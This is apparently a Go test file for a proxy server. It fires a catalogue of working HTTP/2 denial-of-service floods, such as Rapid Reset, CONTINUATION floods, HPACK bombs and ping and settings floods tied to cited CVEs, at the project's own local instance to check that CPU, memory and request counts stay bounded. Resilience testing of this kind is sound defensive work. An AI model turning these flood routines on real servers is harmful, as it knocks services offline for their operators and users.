package attack

import (
	"bufio"
	"bytes"
	"cmp"
	"crypto/tls"
	"encoding/binary"
	"io"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A flooder sends frames of HTTP/2, many to a record.
type flooder struct {
	*http2.Framer
	raw    *tls.Conn
	out    *bufio.Writer
	block  bytes.Buffer
	enc    *hpack.Encoder
	host   string
	stream uint32
	heard  chan struct{} // closed when the server says no more
}

// flooder makes a connection over which to flood. Unless it is deaf, what the
// server says is read and thrown away.
func (h *house) flooder(n int, who *tls.Certificate, host string, deaf bool) (*flooder, error) {
	c := h.tls(who, host)
	c.NextProtos = []string{"h2"}
	conn, err := h.enter(n, c, 3*time.Minute)
	if err != nil {
		return nil, err
	}
	f := &flooder{raw: conn, out: bufio.NewWriterSize(conn, 16<<10), host: host, heard: make(chan struct{})}
	f.Framer, f.enc = http2.NewFramer(f.out, nil), hpack.NewEncoder(&f.block)
	f.enc.SetMaxDynamicTableSizeLimit(1 << 30)
	f.AllowIllegalWrites = true
	f.out.WriteString(http2.ClientPreface)
	f.WriteSettings()
	if err := f.out.Flush(); err != nil {
		conn.Close()
		return nil, err
	}
	if !deaf {
		go func() { io.Copy(io.Discard, conn); close(f.heard) }()
	}
	return f, nil
}

// end says that nothing follows, and waits until the server has taken all of it
// and ended the connection, for a while: a socket that is closed with something
// unread is reset, and what was sent is lost on the way.
func (f *flooder) end() {
	f.out.Flush()
	f.raw.CloseWrite()
	select {
	case <-f.heard:
	case <-time.After(2 * time.Second):
	}
	f.raw.NetConn().Close()
}

// fields encodes the header of a request.
func (f *flooder) fields(more ...hpack.HeaderField) []byte {
	f.block.Reset()
	for _, h := range append([]hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: f.host}, {Name: ":path", Value: "/"}}, more...) {
		f.enc.WriteField(h)
	}
	return f.block.Bytes()
}

// head begins the next stream, in as many frames as its header takes.
func (f *flooder) head(fragment []byte, endStream, endHeaders bool) error {
	f.stream += max(1, min(2, f.stream+1))
	const most = 16 << 10
	first := fragment[:min(most, len(fragment))]
	rest := fragment[len(first):]
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: first, EndStream: endStream, EndHeaders: endHeaders && len(rest) == 0})
	for len(rest) > 0 && err == nil {
		next := rest[:min(most, len(rest))]
		rest = rest[len(next):]
		err = f.WriteContinuation(f.stream, endHeaders && len(rest) == 0, next)
	}
	return err
}

// A frameFlood is one kind of flood: what opens it, and what goes on.
type frameFlood struct {
	begin func(*flooder) error
	again func(f *flooder, i int) error
	deaf  bool // reads no answer
	large bool // each is as much as a hundred others
	brisk int  // how many are sent in the brisk form; 10,000, or 500 large ones
}

var frameFloods = map[string]frameFlood{
	"rapid reset": {again: func(f *flooder, _ int) error {
		if err := f.head(f.fields(), true, true); err != nil {
			return err
		}
		return f.WriteRSTStream(f.stream, http2.ErrCodeCancel)
	}},
	"the server is made to reset": {again: func(f *flooder, _ int) error {
		if err := f.head(f.fields(), true, true); err != nil {
			return err
		}
		return f.WriteWindowUpdate(f.stream, 0)
	}},
	"more streams than may be": {again: func(f *flooder, _ int) error { return f.head(f.fields(), true, true) }},
	"bodies that do not begin": {again: func(f *flooder, _ int) error {
		return f.head(f.fields(hpack.HeaderField{Name: "content-length", Value: "100000"}), false, true)
	}},
	"continuation without end": {
		begin: func(f *flooder) error { return f.head(f.fields(), true, false) },
		again: func(f *flooder, i int) error {
			f.block.Reset()
			f.enc.WriteField(hpack.HeaderField{Name: "x-a", Value: "b", Sensitive: true})
			return f.WriteContinuation(f.stream, false, f.block.Bytes())
		},
	},
	"continuation of nothing": {
		begin: func(f *flooder) error { return f.head(f.fields(), true, false) },
		again: func(f *flooder, _ int) error { return f.WriteContinuation(f.stream, false, nil) },
	},
	"a table that is referred to again and again": {
		begin: func(f *flooder) error {
			return f.head(f.fields(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)}), true, true)
		},
		again: func(f *flooder, _ int) error {
			return f.head(append(bytes.Clone(f.fields()), bytes.Repeat([]byte{0x80 | 62}, 16_000)...), true, true)
		},
		large: true,
	},
	"a larger table than is allowed": {
		begin: func(f *flooder) error { f.enc.SetMaxDynamicTableSize(64 << 20); return nil },
		again: func(f *flooder, i int) error {
			value := binary.BigEndian.AppendUint64(bytes.Repeat([]byte{'a'}, 30_000), uint64(i))
			return f.head(f.fields(hpack.HeaderField{Name: "x", Value: string(bytes.ReplaceAll(value, []byte{0}, []byte{'0'}))}), true, true)
		},
		large: true,
		brisk: 2300, // as much as it wants to have kept
	},
	"a table whose size changes": {
		begin: func(f *flooder) error { return f.head(f.fields(), true, false) },
		again: func(f *flooder, _ int) error {
			return f.WriteContinuation(f.stream, false, bytes.Repeat([]byte{0x20, 0x3f, 0xe1, 0x1f}, 4000))
		},
		large: true,
	},
	"trailers and trailers": {
		begin: func(f *flooder) error { return f.head(f.fields(), false, true) },
		again: func(f *flooder, _ int) error {
			f.block.Reset()
			f.enc.WriteField(hpack.HeaderField{Name: "x-a", Value: "b"})
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: f.block.Bytes(), EndHeaders: true})
		},
	},
	"settings": {again: func(f *flooder, _ int) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	}},
	"settings whose answers are not read": {deaf: true, again: func(f *flooder, _ int) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	}},
	"a window that goes up and down": {
		begin: func(f *flooder) error {
			for range 100 {
				if err := f.head(f.fields(), false, true); err != nil {
					return err
				}
			}
			return nil
		},
		again: func(f *flooder, i int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 2)})
		},
	},
	"pings":                             {again: func(f *flooder, _ int) error { return f.WritePing(false, [8]byte{}) }},
	"pings whose answers are not read":  {deaf: true, again: func(f *flooder, _ int) error { return f.WritePing(false, [8]byte{}) }},
	"answers to pings that nobody sent": {again: func(f *flooder, _ int) error { return f.WritePing(true, [8]byte{}) }},
	"empty data": {
		begin: func(f *flooder) error { return f.head(f.fields(), false, true) },
		again: func(f *flooder, _ int) error { return f.WriteData(f.stream, false, nil) },
	},
	"data that is all padding": {
		begin: func(f *flooder) error { return f.head(f.fields(), false, true) },
		again: func(f *flooder, _ int) error { return f.WriteDataPadded(f.stream, false, nil, make([]byte, 255)) },
	},
	"priorities": {again: func(f *flooder, i int) error {
		return f.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3)})
	}},
	"windows of a byte":         {again: func(f *flooder, _ int) error { return f.WriteWindowUpdate(0, 1) }},
	"farewells":                 {again: func(f *flooder, _ int) error { return f.WriteGoAway(0, http2.ErrCodeNo, nil) }},
	"frames of no known type":   {again: func(f *flooder, _ int) error { return f.WriteRawFrame(0xfa, 0, 0, make([]byte, 16)) }},
	"frames that are too large": {again: func(f *flooder, _ int) error { return f.WriteRawFrame(0xfa, 0, 0, make([]byte, 16<<10+1)) }, large: true},
}

// Floods of frames cost the server little, fill no memory, reach no application
// in greater number than a connection may ask at once, and keep nobody else
// out; and when they are over the server is as it was.
//
// Rapid Reset CVE-2023-44487; CONTINUATION flood CVE-2023-45288; MadeYouReset
// CVE-2025-8671; HPACK bombs, Envoy CVE-2026-47774; ping, settings and empty
// frames CVE-2019-9512, -9515, -9518; priorities and window dribbling
// CVE-2019-9513, -9511.
func TestFloodsOfFrames(t *testing.T) {
	h := ownHouse(t, "")
	app := newWitness(t, either(50*time.Millisecond, 500*time.Millisecond))
	h.write(t, strings.ReplaceAll("%LISTEN%%METRICS%log: {level: error}\nsites:\n  ben.attack.test: {proxy: \"%WITNESS%\", allow: [ben]}\n  open.attack.test: {proxy: \"%WITNESS%\", allow: [strangers]}\n", "%WITNESS%", app.URL))
	h.mustOpen(t)
	ben := h.identity(t, "ben/laptop")
	before := h.calm(t)
	connections := either(2, 16)
	for sentence, flood := range frameFloods {
		t.Run(sentence, func(t *testing.T) {
			s := &storm{h: h, ben: ben}
			app.most.Store(0)
			most := either(cmp.Or(flood.brisk, either(10_000, 0)), 1<<40) // frames on one connection
			if flood.large && flood.brisk == 0 {
				most /= 20
			}
			s.blow(t, connections, lasting(150*time.Millisecond), func(n int, over <-chan struct{}) {
				for first := true; !ended(over) && (first || long); first = false {
					who, host := ben, "ben.attack.test"
					if n%2 == 1 {
						who, host = nil, "open.attack.test"
					}
					f, err := h.flooder(n, who, host, flood.deaf)
					if err != nil {
						time.Sleep(50 * time.Millisecond)
						continue
					}
					s.connected.Add(1)
					if flood.begin != nil {
						err = flood.begin(f)
					}
					for i := 0; err == nil && i < most && (i%64 != 0 || !long || !ended(over)); i++ {
						if err = flood.again(f, i); err == nil {
							s.sent.Add(1)
						}
					}
					f.end()
				}
			})
			each := 100 * time.Microsecond
			if flood.large {
				each *= 100
			}
			if s.cost() > time.Duration(s.sent.Load())*each+2*time.Second {
				t.Errorf("%d frames cost %v", s.sent.Load(), s.cost())
			}
			if s.peak > before.resident+either(130, 300)<<20 {
				t.Errorf("the server held %d MiB, and %d before", s.peak>>20, before.resident>>20)
			}
			// those that the application has not yet seen to be taken back come on top
			if at := app.most.Load(); at > int64(2*128*connections) {
				t.Errorf("the application had %d requests at once", at)
			}
		})
	}
	h.isCalmAgain(t, before, 150<<20)
}
